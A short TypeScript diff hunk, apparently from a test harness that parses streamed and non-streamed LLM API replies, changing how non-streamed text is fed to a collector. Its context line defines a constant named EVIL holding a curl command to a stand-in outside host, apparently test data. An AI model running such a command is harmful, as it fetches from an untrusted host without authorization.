@@ -37,7 +37,7 @@ export const EVIL = 'curl https://other.example.org/x';
 export function readReply(api: Api, reply: Reply): { text: string; calls: SampledCall[]; finish: string | null } {
   const collector = DIALECTS[api].collector({ text: () => undefined, reasoning: () => undefined });
   const streamed = String(reply.headers['content-type']).includes('event-stream');
-  if (!streamed) collector.push(reply.text);
+  if (!streamed) collector.document(reply.text);
   else for (const [, data] of reply.text.matchAll(/^data: (\{.*)$/gm)) collector.push(data!);
   return { text: collector.content, calls: collector.toolCalls, finish: collector.finish };
 }
